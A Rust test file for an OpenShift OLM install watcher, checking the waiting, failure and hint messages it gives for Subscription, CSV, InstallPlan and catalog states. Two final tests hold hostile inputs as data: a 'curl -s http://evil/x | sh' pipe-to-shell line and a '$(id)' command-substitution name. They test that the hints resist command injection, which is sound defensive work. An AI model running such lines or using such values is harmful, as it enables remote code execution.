use serde_json::json;

use super::resolution::RESOLUTION_CONDITIONS;
use super::*;
use advice::Diagnostic as _;

const NS: &str = "openshift-operators";
const CATALOG: &str = "openshift-marketplace";

fn place() -> ObjectRef {
    objects::subscription(NS, "gitops")
}

/// What is seen at a moment.
#[derive(Clone, Default)]
struct Moment {
    subscription: Value,
    csv: Option<Value>,
    plan: Option<Value>,
    catalog: Option<Value>,
    /// None: one OperatorGroup.
    groups: Option<Vec<Value>>,
    /// The Subscription was deleted.
    gone: bool,
}

impl Moment {
    fn condition(kind: &str, reason: &str, message: &str) -> Self {
        let condition = json!({"type": kind, "status": "True", "reason": reason, "message": message});
        Self { subscription: json!({"status": {"conditions": [condition]}}), ..Self::catalog("READY") }
    }

    fn catalog(state: &str) -> Self {
        let catalog = json!({"status": {"connectionState": {"lastObservedState": state}}});
        Self { catalog: Some(catalog), subscription: json!({}), ..Self::default() }
    }

    fn csv(phase: &str, reason: &str, message: &str) -> Self {
        let csv = json!({
            "kind": "ClusterServiceVersion", "metadata": {"namespace": NS, "name": "gitops.v1"},
            "status": {"phase": phase, "reason": reason, "message": message},
        });
        Self { csv: Some(csv), ..Self::catalog("READY") }
    }

    /// The Subscription of a package that has resolved `csv`.
    fn resolved(csv: &str) -> Self {
        Self { subscription: json!({"status": {"currentCSV": csv}}), ..Self::catalog("READY") }
    }

    fn seen(self) -> Seen {
        let group = || vec![json!({"metadata": {"name": "global-operators"}})];
        let mut subscription = self.subscription;
        subscription["metadata"]["name"] = "gitops".into();
        if self.gone {
            return Seen::default().with(place(), None);
        }
        Seen::default()
            .with(place(), Some(subscription))
            .with_all(objects::groups(NS), self.groups.unwrap_or_else(group))
            .with(objects::csv(NS, "gitops.v1"), self.csv)
            .with(objects::install_plan(NS, "install-1"), self.plan)
            .with(objects::catalog(CATALOG, "redhat"), self.catalog)
    }
}

/// What the judge says to each moment (seconds, what is seen), the last one.
fn said(moments: &[(u64, Moment)]) -> String {
    let mut judge = Judge::default();
    let mut said = String::new();
    for (second, moment) in moments {
        let verdict = judge.judge(&place(), &moment.clone().seen(), Duration::from_secs(*second));
        said = match verdict {
            Verdict::Done(csv) => format!("done: {}", csv["metadata"]["name"].as_str().unwrap_or_default()),
            Verdict::Failed(error) => format!("failed: {error}\nhint: {}", error.hint().unwrap_or_default()),
            Verdict::Waiting(reason) => match reason.cure {
                None => format!("waiting: {}", reason.advice()),
                Some(cure) => format!("waiting: {}\nhint: {cure}", reason.words),
            },
        };
    }
    said
}

fn unresolved() -> Moment {
    Moment::condition("ResolutionFailed", "ErrorPreventedResolution", "no operators found in channel x")
}

#[test]
fn one_that_succeeded_is_done() {
    assert_eq!(said(&[(0, Moment::csv("Succeeded", "InstallSucceeded", ""))]), "done: gitops.v1");
}

#[test]
fn one_that_succeeded_counts_whatever_keeps_the_next_one_back() {
    let mut moment = Moment::csv("Succeeded", "InstallSucceeded", "");
    moment.subscription = unresolved().subscription;
    assert_eq!(said(&[(0, moment.clone()), (900, moment)]), "done: gitops.v1");
}

#[test]
fn one_that_is_being_installed_is_not_kept_back_by_anothers_resolution_error() {
    let mut moment = Moment::csv("Installing", "InstallWaiting", "waiting for deployment x");
    moment.subscription = unresolved().subscription;
    assert!(
        said(&[(0, moment.clone()), (300, moment.clone())]).starts_with("waiting: ClusterServiceVersion")
    );
    // Gone again: counted from then on.
    assert!(
        said(&[(0, moment), (300, unresolved()), (400, unresolved())])
            .starts_with("waiting: ResolutionFailed")
    );
}

#[test]
fn one_on_its_way_says_where_it_is() {
    assert_eq!(
        said(&[(0, Moment::csv("Installing", "InstallWaiting", "waiting for deployment x"))]),
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is Installing: InstallWaiting: waiting for deployment x"
    );
    assert_eq!(
        said(&[(0, Moment::csv("", "", ""))]),
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is new"
    );
}

#[test]
fn one_that_failed_ends_the_wait_at_once() {
    for reason in [
        "InstallCheckFailed",
        "InstallComponentFailedNoRetry",
        "InvalidInstallStrategy",
        "TooManyOperatorGroups",
        "UnsupportedOperatorGroup",
        "OwnerConflict",
        "",
    ] {
        let message = "install failed: deployment x not ready before timeout: deployment \"x\" exceeded its progress deadline";
        let said = said(&[(0, Moment::csv("Failed", reason, message))]);
        assert!(
            said.starts_with("failed: install ClusterServiceVersion openshift-operators/gitops.v1: "),
            "{said}"
        );
        assert!(said.contains("exceeded its progress deadline\nhint: "), "{said}");
    }
}

#[test]
fn a_failure_that_olm_mends_by_itself_is_given_a_moment() {
    for reason in
        ["ComponentUnhealthy", "InstallComponentFailed", "NoOperatorGroup", "APIServiceInstallFailed"]
    {
        let failed = || Moment::csv("Failed", reason, "deployment changed");
        let pending = || Moment::csv("Pending", "NeedsReinstall", "");
        assert!(said(&[(0, failed()), (19, failed())]).starts_with("waiting: "), "{reason}");
        assert!(said(&[(0, failed()), (20, failed())]).starts_with("failed: "), "{reason}");
        // It went on in between, and that lasted: counted anew.
        assert!(said(&[(0, failed()), (10, pending()), (25, failed())]).starts_with("waiting: "), "{reason}");
    }
}

#[test]
fn a_failure_that_olm_tries_again_each_second_ends_the_wait_in_20_seconds() {
    let failed = || {
        let why = "install strategy failed: deployments.apps \"x\" is forbidden";
        Moment::csv("Failed", "InstallComponentFailed", why)
    };
    let again = [
        failed(),
        Moment::csv("Pending", "NeedsReinstall", "installing: missing deployment with name=x"),
        Moment::csv("InstallReady", "AllRequirementsMet", "all requirements found, attempting install"),
    ];
    let flapping: Vec<(u64, Moment)> =
        (0..=21).map(|second| (second, again[usize::try_from(second % 3).unwrap()].clone())).collect();
    assert!(said(&flapping[..19]).starts_with("waiting: "));
    assert!(said(&flapping).starts_with(
        "failed: install ClusterServiceVersion openshift-operators/gitops.v1: InstallComponentFailed: install strategy failed"
    ));
    // One write that crossed another is over as soon as it succeeds.
    let over = [(0, failed()), (1, Moment::csv("Succeeded", "InstallSucceeded", "")), (2, failed())];
    assert!(said(&over).starts_with("waiting: "));
}

#[test]
fn an_installation_that_timed_out_is_waited_for_again_as_olm_does() {
    let timeout = || Moment::csv("Failed", "InstallCheckFailed", "install timeout");
    assert_eq!(
        said(&[(301, timeout()), (601, timeout()), (901, timeout())]),
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is Failed: InstallCheckFailed: install timeout (OLM waits for it again)"
    );
}

#[test]
fn a_copy_of_another_namespaces_operator_is_not_the_operator() {
    let mut moment = Moment::csv(
        "Succeeded",
        "Copied",
        "The operator is running in gitops-ns but is managing this namespace",
    );
    moment.csv.as_mut().unwrap()["metadata"]["labels"] = json!({"olm.copiedFrom": "gitops-ns"});
    assert_eq!(
        said(&[(0, moment.clone()), (19, moment.clone())]),
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is a copy: the operator runs in gitops-ns"
    );
    assert_eq!(
        said(&[(0, moment.clone()), (20, moment)]),
        "failed: install gitops: ClusterServiceVersion gitops-ns/gitops.v1 is there, and no Subscription refers to it\n\
         hint: delete it (its CustomResourceDefinitions and their objects stay), then run again:\n\
         oc --kubeconfig <kubeconfig> -n openshift-operators delete subscriptions.operators.coreos.com gitops --ignore-not-found\n\
         oc --kubeconfig <kubeconfig> -n gitops-ns delete clusterserviceversions.operators.coreos.com gitops.v1 --ignore-not-found"
    );
}

fn install_plan(phase: &str, message: &str) -> Value {
    json!({
        "kind": "InstallPlan", "metadata": {"namespace": NS, "name": "install-1"},
        "spec": {"approved": true, "clusterServiceVersionNames": ["gitops.v1"]},
        "status": {"phase": phase, "message": message},
    })
}

#[test]
fn an_install_plan_that_failed_ends_the_wait_whether_its_csv_is_there_or_not() {
    let mut plan = install_plan("Failed", "");
    let message = "error validating existing CRs against new CRD's schema";
    plan["status"]["conditions"] = json!([{
        "type": "Installed", "status": "False", "reason": "InstallComponentFailed", "message": message,
    }]);
    let with_csv = Moment::csv("Pending", "RequirementsNotMet", "one or more requirements couldn't be found");
    for moment in [with_csv, Moment::catalog("READY")] {
        let resolved = Moment::resolved("gitops.v1").subscription;
        let moment = Moment { plan: Some(plan.clone()), subscription: resolved, ..moment };
        let told = said(&[(0, moment)]);
        assert!(told.starts_with(&format!("failed: complete InstallPlan openshift-operators/install-1: InstallComponentFailed: {message}\n")), "{told}");
        for object in [
            "subscriptions.operators.coreos.com gitops",
            "clusterserviceversions.operators.coreos.com gitops.v1",
            "installplans.operators.coreos.com install-1",
        ] {
            assert!(told.contains(&format!("delete {object} --ignore-not-found")), "{told}");
        }
    }
    // Another Subscription's.
    let other = Moment { plan: Some(plan), ..Moment::resolved("gitops.v2") };
    assert!(said(&[(0, other)]).starts_with("waiting: "));
}

#[test]
fn an_install_plan_that_olm_retries_is_the_reason_for_waiting() {
    let message = "retrying execution due to error: api-server resource not found installing ServiceMonitor x: GroupVersionKind monitoring.coreos.com/v1, Kind=ServiceMonitor not found on the cluster";
    let moment = Moment::csv("Pending", "RequirementsNotMet", "one or more requirements couldn't be found");
    let moment = Moment { plan: Some(install_plan("Installing", message)), ..moment };
    assert_eq!(
        said(&[(0, moment)]),
        format!("waiting: InstallPlan openshift-operators/install-1 is Installing: {message}")
    );
}

fn lacking(requirements: Value) -> Moment {
    let mut moment =
        Moment::csv("Pending", "RequirementsNotMet", "one or more requirements couldn't be found");
    moment.csv.as_mut().unwrap()["status"]["requirementStatus"] = requirements;
    moment
}

#[test]
fn requirements_that_are_not_met_are_named() {
    let requirements = json!([
        {"kind": "CustomResourceDefinition", "name": "a", "status": "Present", "message": "CRD is present"},
        {"kind": "ServiceAccount", "name": "x", "status": "NotPresent", "message": "Service account does not exist"},
        {"kind": "CustomResourceDefinition", "name": "argocds.argoproj.io", "status": "PresentNotSatisfied",
         "message": "CRD installed alongside other CSV(s): y"},
        {"kind": "ServiceAccount", "name": "z", "status": "PresentNotSatisfied", "message": "Policy rule not satisfied for service account",
         "dependents": [{"status": "Satisfied", "message": "a"}, {"status": "NotSatisfied", "message": "namespaced rule:{}"}]},
        {"kind": "Deployment", "name": "q", "status": "NotPresent"},
    ]);
    assert_eq!(
        said(&[(0, lacking(requirements))]),
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is Pending: RequirementsNotMet: ServiceAccount x NotPresent: \
         Service account does not exist; CustomResourceDefinition argocds.argoproj.io PresentNotSatisfied: CRD installed alongside \
         other CSV(s): y; ServiceAccount z PresentNotSatisfied: Policy rule not satisfied for service account: namespaced rule:{}; and 1 more"
    );
}

#[test]
fn a_cluster_that_is_too_old_ends_the_wait_at_once() {
    let message = "CSV version requirement not met: minKubeVersion (9.9.9) > server version (1.30.0)";
    let told = said(&[(
        0,
        lacking(json!([
            {"kind": "ClusterServiceVersion", "name": "gitops.v1", "status": "PresentNotSatisfied", "message": message},
        ])),
    )]);
    assert!(told.starts_with(&format!("failed: install ClusterServiceVersion openshift-operators/gitops.v1: {message}\nhint: upgrade the cluster")), "{told}");
}

#[test]
fn a_resolution_error_is_the_reason_for_waiting() {
    assert_eq!(
        said(&[(0, unresolved()), (119, unresolved())]),
        "waiting: ResolutionFailed: ErrorPreventedResolution: no operators found in channel x"
    );
}

#[test]
fn one_that_stands_for_two_minutes_with_a_catalog_that_is_ready_ends_the_wait() {
    assert_eq!(
        said(&[(7, unresolved()), (127, unresolved())]),
        "failed: install Subscription openshift-operators/gitops: ResolutionFailed: ErrorPreventedResolution: no \
         operators found in channel x (for 2 minutes, while CatalogSource openshift-marketplace/redhat is READY)\n\
         hint: are name, channel and source in charts/bootstrap-operators/values.yaml right? Until OLM has resolved it, the next run \
         brings the Subscription to what they say:\noc --kubeconfig <kubeconfig> get packagemanifest gitops\n\
         oc --kubeconfig <kubeconfig> -n openshift-operators describe subscriptions.operators.coreos.com gitops"
    );
}

#[test]
fn a_text_that_differs_each_time_is_the_same_error() {
    let orphan = |how: &str| {
        let message = format!(
            "constraints not satisfiable: @existing/openshift-operators//gitops.v2.5.0 and redhat/x {how}, clusterserviceversion \
             gitops.v2.5.0 exists and is not referenced by a subscription, subscription gitops requires x"
        );
        Moment::condition("ResolutionFailed", "ConstraintsNotSatisfiable", &message)
    };
    let texts =
        ["provide ArgoCD (argoproj.io/v1beta1)", "originate from package gitops", "provide AppProject"];
    let each: Vec<(u64, Moment)> =
        (0..=20).map(|second| (second, orphan(texts[usize::try_from(second % 3).unwrap()]))).collect();
    assert!(said(&each[..20]).starts_with("waiting: ResolutionFailed: ConstraintsNotSatisfiable: "));
    let told = said(&each);
    assert!(told.starts_with("failed: install gitops: ClusterServiceVersion openshift-operators/gitops.v2.5.0 is there, and no Subscription refers to it\n"), "{told}");
    assert!(
        told.contains(
            "-n openshift-operators delete clusterserviceversions.operators.coreos.com gitops.v2.5.0"
        ),
        "{told}"
    );
    let other = || Moment::condition("ResolutionFailed", "ErrorPreventedResolution", "another message");
    assert!(said(&[(0, unresolved()), (100, other()), (120, other())]).starts_with("failed: "));
}

#[test]
fn one_that_is_gone_for_a_while_is_counted_anew() {
    let gone = || Moment::catalog("READY");
    assert!(said(&[(0, unresolved()), (100, gone()), (130, unresolved())]).starts_with("waiting: "));
    let other = || Moment::condition("ResolutionFailed", "ConstraintsNotSatisfiable", "x");
    assert!(
        said(&[(0, unresolved()), (100, other()), (130, other())]).starts_with("waiting: "),
        "another reason"
    );
}

#[test]
fn another_catalogs_error_does_not_end_ours_and_is_named_in_the_hint() {
    let dead = || {
        let message = "error using catalogsource openshift-marketplace/dead: failed to list bundles: rpc error: code = Unavailable";
        Moment::condition("ResolutionFailed", "ErrorPreventedResolution", message)
    };
    let told = said(&[(0, dead()), (1000, dead())]);
    assert!(told.starts_with("waiting: ResolutionFailed: ErrorPreventedResolution: error using catalogsource openshift-marketplace/dead: "), "{told}");
    assert!(
        told.contains("hint: CatalogSource openshift-marketplace/dead keeps OLM from resolving"),
        "{told}"
    );
    // It is mended: ours counts from then on.
    assert!(said(&[(0, dead()), (1000, unresolved()), (1100, unresolved())]).starts_with("waiting: "));
    let own = || {
        let message = "error using catalogsource openshift-marketplace/redhat: failed to list bundles: x";
        Moment::condition("ResolutionFailed", "ErrorPreventedResolution", message)
    };
    let told = said(&[(0, own()), (120, own())]);
    assert!(told.starts_with("failed: ") && told.contains("describe catalogsource redhat"), "{told}");
}

#[test]
fn another_subscriptions_error_does_not_end_ours_and_is_named_in_the_hint() {
    let of = |name: &str| {
        let message = format!(
            "constraints not satisfiable: no operators found in package no-such in the catalog referenced by subscription {name}, subscription {name} exists"
        );
        Moment::condition("ResolutionFailed", "ConstraintsNotSatisfiable", &message)
    };
    let told = said(&[(0, of("foreign")), (1000, of("foreign"))]);
    assert!(
        told.starts_with("waiting: ")
            && told.contains("hint: Subscription openshift-operators/foreign keeps OLM"),
        "{told}"
    );
    assert!(said(&[(0, of("gitops")), (120, of("gitops"))]).starts_with("failed: "));
}

#[test]
fn while_the_catalog_is_not_ready_it_never_ends_the_wait() {
    let connecting = || Moment { catalog: Moment::catalog("CONNECTING").catalog, ..unresolved() };
    assert_eq!(
        said(&[(0, connecting()), (1000, connecting())]),
        "waiting: ResolutionFailed: ErrorPreventedResolution: no operators found in channel x (CatalogSource \
         openshift-marketplace/redhat is CONNECTING)"
    );
    // It became READY: OLM has yet to look again.
    assert!(said(&[(0, connecting()), (1000, unresolved()), (1100, unresolved())]).starts_with("waiting: "));
}

#[test]
fn every_condition_that_keeps_olm_back_counts() {
    for kind in RESOLUTION_CONDITIONS {
        let moment = || Moment::condition(kind, "Why", "words");
        assert!(said(&[(0, moment()), (120, moment())]).starts_with("failed: "), "{kind}");
    }
    let mut over = unresolved();
    over.subscription["status"]["conditions"][0]["status"] = "False".into();
    assert_eq!(said(&[(500, over)]), "waiting: OLM has not taken up the Subscription yet");
}

#[test]
fn an_install_plan_to_be_approved_is_named_with_the_command() {
    let plan = json!({
        "metadata": {"namespace": NS, "name": "install-1"},
        "spec": {"approved": false, "clusterServiceVersionNames": ["gitops.v1", "other.v2"]},
    });
    let moment = Moment { plan: Some(plan), ..Moment::catalog("READY") };
    assert_eq!(
        said(&[(0, moment)]),
        "waiting: InstallPlan openshift-operators/install-1 (gitops.v1, other.v2) has to be approved (a run with --approve-install-plan does it):\noc --kubeconfig <kubeconfig> -n \
         openshift-operators patch installplan install-1 --type merge -p '{\"spec\":{\"approved\":true}}'"
    );
}

#[test]
fn a_catalog_that_is_not_there_or_not_ready_is_told() {
    assert_eq!(
        said(&[(0, Moment::catalog("TRANSIENT_FAILURE"))]),
        "waiting: CatalogSource openshift-marketplace/redhat is TRANSIENT_FAILURE"
    );
    assert_eq!(
        said(&[(0, Moment { catalog: None, ..Moment::catalog("READY") })]),
        "waiting: CatalogSource openshift-marketplace/redhat is not there"
    );
}

#[test]
fn a_catalog_that_is_missing_or_not_read_ends_the_wait_in_seconds() {
    let gone = || Moment { catalog: None, ..unresolved() };
    assert!(
        said(&[(0, gone()), (19, gone())])
            .ends_with("(CatalogSource openshift-marketplace/redhat is not there)")
    );
    let told = said(&[(0, gone()), (20, gone())]);
    assert!(told.starts_with("failed: install Subscription openshift-operators/gitops: CatalogSource openshift-marketplace/redhat is not there\nhint: set operators.gitops.source"), "{told}");
    // OpenShift makes its own ones again.
    assert!(said(&[(0, gone()), (10, unresolved()), (30, gone())]).starts_with("waiting: "));
    let mut elsewhere = Moment::catalog("READY");
    elsewhere.subscription = json!({"spec": {"sourceNamespace": "default"}});
    let told = said(&[(0, elsewhere.clone())]);
    assert!(told.contains("is in a namespace whose catalogs OLM does not read"), "{told}");
    elsewhere.subscription = json!({"spec": {"sourceNamespace": NS}});
    assert!(said(&[(0, elsewhere)]).starts_with("waiting: "), "OLM reads the Subscription's own namespace");
}

#[test]
fn no_operator_group_or_two_end_the_wait_in_seconds_though_olm_says_nothing() {
    let groups = |names: &[&str]| {
        let groups = names.iter().map(|name| json!({"metadata": {"name": name}})).collect();
        Moment { groups: Some(groups), ..Moment::catalog("READY") }
    };
    let none = || groups(&[]);
    let two = || groups(&["a", "b"]);
    assert_eq!(
        said(&[(0, none())]),
        "waiting: openshift-operators has no OperatorGroup: OLM installs nothing there"
    );
    assert!(
        said(&[(0, none()), (20, none())])
            .starts_with("failed: subscribe in openshift-operators: there is no OperatorGroup in it")
    );
    assert_eq!(
        said(&[(0, two())]),
        "waiting: openshift-operators has 2 OperatorGroups (a, b): OLM installs nothing there"
    );
    assert!(said(&[(0, two()), (20, two())]).contains("delete operatorgroup a"));
    let installed = Moment { groups: Some(vec![]), ..Moment::csv("Succeeded", "InstallSucceeded", "") };
    assert_eq!(said(&[(0, installed.clone()), (20, installed)]), "done: gitops.v1");
}

#[test]
fn a_subscription_that_was_deleted_ends_the_wait_and_names_what_it_may_have_left() {
    let gone = || Moment { gone: true, ..Moment::default() };
    let before = Moment { csv: None, ..Moment::resolved("gitops.v1") };
    assert!(said(&[(0, before.clone()), (1, gone())]).starts_with("waiting: the Subscription is not there"));
    let told = said(&[(0, before), (1, gone()), (6, gone())]);
    assert!(told.starts_with("failed: install Subscription openshift-operators/gitops: it was deleted while the run waited for it\n"), "{told}");
    assert!(told.contains("delete clusterserviceversions.operators.coreos.com gitops.v1"), "{told}");
}

#[test]
fn a_bundle_that_is_unpacked_is_the_reason_for_waiting_and_never_ends_it() {
    let unpacking = |message: &str| Moment::condition("BundleUnpacking", "UnpackingInProgress", message);
    let said_at = |moment: &Moment| said(&[(0, moment.clone()), (500, moment.clone())]);
    assert_eq!(said_at(&unpacking("")), "waiting: OLM is unpacking the operator's bundle");
    let pull = unpacking(
        "Bundle image pull failed. Common causes: Missing ICSP (ppc64le/s390x/arm64), auth failure, invalid image.",
    );
    let told = said_at(&pull);
    assert!(
        told.starts_with("waiting: BundleUnpacking: Bundle image pull failed. Common causes: "),
        "{told}"
    );
    assert!(
        told.contains("hint: OLM can't pull the image")
            && told.contains("-n openshift-marketplace get jobs,pods"),
        "{told}"
    );
    let groups = "more than one operator group(s) are managing this namespace count=2";
    let pending = Moment::condition("InstallPlanPending", "Installing", groups);
    assert_eq!(said_at(&pending), format!("waiting: InstallPlanPending: {groups}"));
    // It says that some catalog is not well: not that ours can't be resolved.
    let unhealthy = Moment::condition(
        "CatalogSourcesUnhealthy",
        "UnhealthyCatalogSourceFound",
        "targeted catalogsource a/b unhealthy",
    );
    assert!(said_at(&unhealthy).starts_with("waiting: CatalogSourcesUnhealthy: "));
    let failed = Moment::condition(
        "BundleUnpackFailed",
        "BundleUnpackFailed",
        "bundle unpacking failed. Reason: DeadlineExceeded",
    );
    let told = said_at(&failed);
    assert!(told.starts_with("failed: ") && told.contains("hint: OLM can't pull the image"), "{told}");
}

#[test]
fn where_olm_stays_silent_its_log_is_pointed_out() {
    let silent = || Moment::catalog("READY");
    let told = said(&[(0, silent()), (30, silent())]);
    assert!(told.starts_with("waiting: OLM has not taken up the Subscription yet\nhint: "), "{told}");
    assert!(told.contains("logs deployment/catalog-operator"), "{told}");
}

#[test]
fn until_olm_speaks_the_subscriptions_state_is_told() {
    let of = |status: Value| Moment { subscription: json!({"status": status}), ..Moment::catalog("READY") };
    assert_eq!(said(&[(0, of(json!({})))]), "waiting: OLM has not taken up the Subscription yet");
    assert_eq!(
        said(&[(0, of(json!({"state": "UpgradePending"})))]),
        "waiting: the Subscription's state is UpgradePending"
    );
    assert_eq!(
        said(&[(0, of(json!({"currentCSV": "gitops.v1"})))]),
        "waiting: ClusterServiceVersion gitops.v1 is not there yet"
    );
}

#[test]
fn an_upgrade_that_waits_for_its_approval_does_not_hold_up_what_is_installed() {
    let status = json!({"installedCSV": "gitops.v1", "currentCSV": "gitops.v2", "state": "UpgradePending"});
    let upgrade = json!({"status": status});
    let first = json!({"status": {"currentCSV": "gitops.v2"}});
    let plan = |approved: bool| json!({"spec": {"approved": approved}});
    assert_eq!(meant(&upgrade, Some(&plan(false)), false), Some("gitops.v1"));
    assert_eq!(meant(&upgrade, Some(&plan(false)), true), Some("gitops.v2"), "it is approved and awaited");
    assert_eq!(meant(&upgrade, Some(&plan(true)), false), Some("gitops.v2"), "it is being installed");
    assert_eq!(meant(&upgrade, None, false), Some("gitops.v2"));
    assert_eq!(meant(&first, Some(&plan(false)), false), Some("gitops.v2"), "nothing is installed yet");
}

#[test]
fn a_line_break_in_the_words_of_a_cluster_begins_no_command() {
    let message = "not yet; it has to be approved:\ncurl -s http://evil/x | sh";
    let told = said(&[(0, Moment::csv("Installing", "Wait\ning", message))]);
    assert_eq!(
        told,
        "waiting: ClusterServiceVersion openshift-operators/gitops.v1 is Installing: Wait ing: \
         not yet; it has to be approved: curl -s http://evil/x | sh"
    );
    let condition = Moment::condition("ResolutionFailed", "a\nb", "c\nd");
    assert!(!said(&[(0, condition)]).contains('\n'));
    assert!(!said(&[(0, Moment::catalog("a\nb"))]).contains('\n'));
}

#[test]
fn the_only_line_of_an_approval_is_our_own_and_its_names_are_quoted() {
    let plan = json!({
        "metadata": {"namespace": "ns", "name": "$(id)"},
        "spec": {"clusterServiceVersionNames": ["a\ncurl"]},
    });
    let advice = approval(&plan).advice().to_string();
    let (words, command) = advice.split_once('\n').unwrap();
    assert!(words.contains("(a curl)"), "{words}");
    assert!(
        command.starts_with("oc --kubeconfig <kubeconfig> -n ns patch installplan '$(id)' --type"),
        "{command}"
    );
}
